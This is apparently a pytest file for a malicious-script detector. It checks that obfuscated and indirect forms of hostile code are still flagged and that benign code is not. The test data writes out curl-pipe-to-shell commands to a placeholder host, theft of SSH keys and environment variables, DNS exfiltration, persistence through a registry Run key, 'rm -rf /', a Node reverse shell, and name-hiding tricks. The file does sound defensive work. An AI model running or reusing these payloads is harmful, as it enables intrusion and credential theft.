"""Detours by which a script does what it would be caught at: other names, pieces, callers, callees, texts in texts."""

from __future__ import annotations

import base64

import pytest

from inkgate.code import Language, analyse
from inkgate.code.model import CodeFinding
from inkgate.code.python.parse import parse

HOST = "198.18.0.7"
PIPED = f"curl -s http://{HOST}/a | " + "sh"
CODE = base64.b64encode(b"print(1)").decode()


def rules(text: str, language: Language, **options: bool) -> set[str]:
    """Ids of what is found."""
    return {item.rule for item in analyse(text, language, **options).findings}  # type: ignore[arg-type]


PYTHON = [
    ("script-runs-downloaded", f"import subprocess\nsubprocess.run(args=['bash', '-c', '{PIPED}'])"),
    ("script-runs-downloaded", f"import subprocess\nsubprocess.run(args='{PIPED}', shell=True)"),
    ("script-runs-downloaded", f"import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', '{PIPED}')"),
    ("script-runs-downloaded", f"import os\nos.execv('/bin/sh', ['sh', '-c', '{PIPED}'])"),
    ("script-runs-downloaded", f"import os\nos.posix_spawn('/bin/sh', ['sh', '-c', '{PIPED}'], {{}})"),
    (
        "script-runs-downloaded",
        f"import asyncio\nasync def m():\n    await asyncio.create_subprocess_exec('sh', '-c', '{PIPED}')",
    ),
    ("script-runs-downloaded", f"import os, threading\nthreading.Thread(target=os.system, args=('{PIPED}',)).start()"),
    ("script-runs-downloaded", f"import os, functools\nfunctools.partial(os.system, '{PIPED}')()"),
    ("script-runs-downloaded", f"import os\nlist(map(os.system, ['{PIPED}']))"),
    ("script-runs-downloaded", f"import os\npool.submit(os.system, '{PIPED}')"),
    ("script-runs-downloaded", f"import os\nos.system.__call__('{PIPED}')"),
    ("script-runs-downloaded", f"from os import *\nsystem('{PIPED}')"),
    ("script-runs-downloaded", f"import sys\nsys.modules['os'].system('{PIPED}')"),
    ("script-runs-downloaded", f"exec(\"import os; os.system('{PIPED}')\")"),
    ("script-hides-names", "f = getattr(__import__(''.join(reversed('so'))), 'metsys'[::-1])\nf('id')"),
    ("script-hides-names", "@exec\n@lambda _: source\nclass X: pass"),
    ("script-runs-downloaded", "exec(__import__('urllib.request').request.urlopen('https://a.example').read())"),
    (
        "script-runs-downloaded",
        "import requests\n"
        + "".join(f"def f{n}():\n    return f{n + 1}()\n" for n in range(20))
        + "def f20():\n    return requests.get(u).text\nexec(f0())",
    ),
    (
        "script-sends-credentials",
        "import requests\nfrom pathlib import Path\nk = Path.home() / '.ssh' / 'id_rsa'\n"
        "requests.post(u, files={'k': k.open('rb')})",
    ),
    (
        "script-leaks-by-name",
        "import os, socket\nd = os.environ['API_KEY']\nfor i in range(9):\n"
        "    socket.gethostbyname(d[i : i + 9] + '.a.example')",
    ),
    (
        "script-persists",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        r"'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)",
    ),
    ("script-sends-variable", "import keyring, requests\nrequests.post(u, data={'v': keyring.get_password('a', 'b')})"),
]
SHELL = [
    ("script-runs-downloaded", "C=curl\nS=bash\n$C -fsSL https://a.example/i | $S"),
    ("script-runs-downloaded", 'a=cur\n"${a}l" -so /tmp/x https://a.example/x\n/tmp/x'),
    ("script-runs-downloaded", 'FETCH="curl -fsSL"\nsh -c "$($FETCH https://a.example/i)"'),
    ("script-runs-downloaded", f'su -c "{PIPED}" root'),
    ("script-runs-downloaded", f"script -qc '{PIPED}' /dev/null"),
    ("script-runs-downloaded", f"ssh me@host '{PIPED}'"),
    ("script-runs-downloaded", f"at now <<< '{PIPED}'"),
    ("script-runs-downloaded", f"find . -name x -exec sh -c '{PIPED}' \\;"),
    ("script-runs-downloaded", "eval a b c d e f g h $(curl -s https://a.example/i)"),
    ("script-runs-downloaded", "bash -o errexit -o nounset -o pipefail <(curl -s https://a.example/i)"),
    ("script-destroys", "find . -type d -exec rm -rf / \\;"),
    ("script-sends-credentials", 'curl -d "' + "x" * 1990 + '$A@$HOME/.ssh/id_rsa" https://a.example'),
]
SCRIPT = [
    ("script-sends-environment", "const p = process;\nconst e = p.env;\nfetch(u, { body: JSON.stringify(e) });"),
    (
        "script-sends-environment",
        'const g = globalThis["pro" + "cess"];\nrequire("https").request(o).end(JSON.stringify(g.env));',
    ),
    ("script-hides-names", "const w = require('child_process')['ex' + 'ecSync']; w(x);"),
    ("script-hides-names", "const c = [99,117,114,108].map(x => String.fromCharCode(x)).join('');"),
    ("script-hides-names", "const c = String.fromCharCode(99, 117, 114, 108);"),
    ("script-hides-names", "load(['child', '_process'].join(''))"),
    ("script-hides-names", "load('ssecorp_dlihc'.split('').reverse().join(''))"),
    ("script-hides-names", "load('\\x63\\x75\\x72\\x6c')"),
    ("script-hides-names", f"load(atob('{base64.b64encode(b'child_process').decode()}'))"),
    ("script-hides-names", "$f = 'base64'.'_decode'; $f($x);"),
    ("script-runs-decoded", f"[].filter.constructor(atob('{CODE}'))()"),
    ("script-runs-decoded", f"const s = Buffer.from('{CODE}', 'base64').toString();\neval(s);"),
    ("script-runs-decoded", f"$w = [Convert]::FromBase64String('{CODE}')\n$t = $e.GetString($w)\nInvoke-Expression $t"),
    (
        "script-runs-downloaded",
        "const c = await (await fetch(u)).text();\nawait import('data:text/javascript,' + encodeURIComponent(c));",
    ),
    (
        "script-runs-downloaded",
        "function Get-Second-Part { param($u) (New-Object Net.WebClient).DownloadString($u) }\n"
        "$x = Get-Second-Part $u\n& ([scriptblock]::Create($x))",
    ),
    ("script-runs-downloaded", "my $c = get('https://a.example/s.pl');\neval $c;"),
    ("script-runs-downloaded", f"cp.spawn('bash', ['-c', '{PIPED}'], {{ detached: true }})"),
    ("script-runs-downloaded", f"require('child_process').execSync(\"{PIPED}\")"),
    ("script-runs-downloaded", f'Command::new("sh").arg("-c").arg("{PIPED}")'),
    ("script-runs-downloaded", f"def run\n  `{PIPED}`\nend"),
    ("script-sends-credentials", "execSync('cat ~/.ssh/id_rsa | curl -d @- https://a.example')"),
    (
        "script-reverse-shell",
        "const sh = spawn('/bin/sh', []);\nconst c = new net.Socket();\n"
        f"c.connect(99, '{HOST}', () => {{ c.pipe(sh.stdin); sh.stdout.pipe(c); }});",
    ),
]


@pytest.mark.parametrize(("rule", "text"), PYTHON)
def test_python_takes_no_detour(rule: str, text: str) -> None:
    """Whoever makes the call, and by whatever name."""
    assert rule in rules(text, Language.PYTHON)


@pytest.mark.parametrize(("rule", "text"), SHELL)
def test_a_shell_script_takes_no_detour(rule: str, text: str) -> None:
    """Programs that variables name, and those that others start."""
    assert rule in rules(text, Language.SHELL)


@pytest.mark.parametrize(("rule", "text"), SCRIPT)
def test_another_script_takes_no_detour(rule: str, text: str) -> None:
    """Names in pieces, other names, and command lines in texts."""
    assert rule in rules(text, Language.SCRIPT)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        (Language.PYTHON, "import threading\nthreading.Thread(target=serve, args=('a b',)).start()"),
        (Language.PYTHON, "import os, subprocess\nsubprocess.run(args=['git', 'status'], check=True)"),
        (Language.PYTHON, "import os, requests\nk = os.environ['API_KEY']\nprint(k[:4] + '...')"),
        (Language.PYTHON, r"import winreg; winreg.OpenKey(winreg.HKEY_CURRENT_USER, '\\CurrentVersion\\Run')"),
        (Language.PYTHON, "exec('x = 1')\nlist(map(str, [1, 2]))\npool.map(work, ['a', 'b'])"),
        (Language.PYTHON, "@app.route('/')\n@functools.cache\ndef index(): return 'x'"),
        (Language.SHELL, "PYTHON=python3\n$PYTHON -m pytest -q\nfind . -name '*.pyc' -exec rm {} +"),
        (Language.SHELL, 'CURL="curl -fsS"\n$CURL https://api.example.com/health'),
        (Language.SHELL, "trap 'rm -rf \"$TMP\"' EXIT\nssh deploy@host 'cd app && git pull && make'"),
        (Language.SCRIPT, "const s = 'Hello, ' + 'world'; const t = ['a', 'b'].join('');"),
        (Language.SCRIPT, "execSync('git status --short'); execSync(`npm version ${v} --no-git-tag-version`)"),
        (Language.SCRIPT, "const names = /^(Eval|Range|Type)Error$/; const r = new XMLHttpRequest(); const type = r"),
        (Language.SCRIPT, "const png = Buffer.from(data, 'base64'); fs.writeFileSync('a.png', png)"),
        (
            Language.SCRIPT,
            'function Get-Report-Name { param($d) "report-$d.txt" }\n$n = Get-Report-Name 3\nWrite-Output $n',
        ),
        (Language.SCRIPT, "const p = process; console.log(p.env.HOME, p.argv)"),
    ],
)
def test_the_same_means_are_left_alone_in_ordinary_scripts(language: Language, text: str) -> None:
    """Threads, variables for programs, joined texts and commands are what programs are made of."""
    assert rules(text, language) == set()


def test_a_joined_text_is_found_where_it_stands() -> None:
    """Folding moves nothing."""
    before = "const a = 'x' + 'y';\n"
    text = before + "const p = process;\nfetch(u, { body: JSON.stringify(p.env) });"
    (item,) = (item for item in analyse(text, Language.SCRIPT).findings if item.rule == "script-sends-environment")
    assert text[item.start : item.start + 5] == "fetch"


def only(text: str, language: Language, **options: bool) -> list[CodeFinding]:
    """What could not be analysed."""
    found = analyse(text, language, **options).findings  # type: ignore[arg-type]
    return [item for item in found if item.rule == "script-not-analysed"]


def test_texts_in_texts_are_not_dropped_in_silence() -> None:
    """Where it is not looked any deeper, it says so."""
    text = "import os\nos.system('id')"
    for _ in range(5):
        text = f"exec({text!r})"
    assert only(text, Language.PYTHON)
    line = "id"
    for _ in range(6):
        line = f"$(echo {line})"
    assert only(f"echo {line}", Language.SHELL)
    assert not only("exec(\"exec('x = 1')\")", Language.PYTHON)
    assert not only("echo $(echo $(date))", Language.SHELL)


def test_computed_texts_beyond_the_budget_are_not_dropped_in_silence() -> None:
    """A row of long texts does not use up what the path of a credential needs."""
    rows = "".join(f"a{n} = x + 'y'\nx = x + x[:0] + '{'z' * 600}'\n" for n in range(380))
    assert only(f"x = ''\n{rows}", Language.PYTHON)
    assert not only("a = 'b' + 'c'\n" * 300, Language.PYTHON)


def test_a_label_that_does_not_settle_is_told() -> None:
    """A chain that is longer than what can be followed."""
    chain = "".join(f"def f{n}():\n    return f{n + 1}()\n" for n in range(2500))
    assert only(f"import requests\n{chain}def f2500():\n    return requests.get(u).text\nexec(f0())", Language.PYTHON)


def test_a_wrong_line_hides_no_other_one() -> None:
    """Not the lines of the same function, and none behind many pieces."""
    text = "def go():\n    print 'old'\n    import os\n    os.system('" + PIPED + "')\n"
    assert "script-runs-downloaded" in rules(text, Language.PYTHON)
    many = "x = 1\n" * 3000 + "print 'old'\n" + f"import os\nos.system('{PIPED}')\n"
    assert "script-runs-downloaded" in rules(many, Language.PYTHON)


def test_more_pieces_than_are_parsed_are_told() -> None:
    """In a document too, where a piece that does not parse is no news."""
    text = "print 'old'\n" + "x = 1\n" * 5000 + "print 'old'\n"
    assert parse(text)[1] == "pieces"
    assert only(text, Language.PYTHON, example=True)


def test_places_are_right_behind_other_ends_of_lines() -> None:
    """A form feed or U+2028 ends no line for the parser."""
    text = "a = 'x\u2028y\x0cz'\nprint 'old'\nexec(bytes.fromhex('00'))\n"
    (item,) = (item for item in analyse(text, Language.PYTHON).findings if item.rule == "script-runs-decoded")
    assert text[item.start : item.end].startswith("exec(")
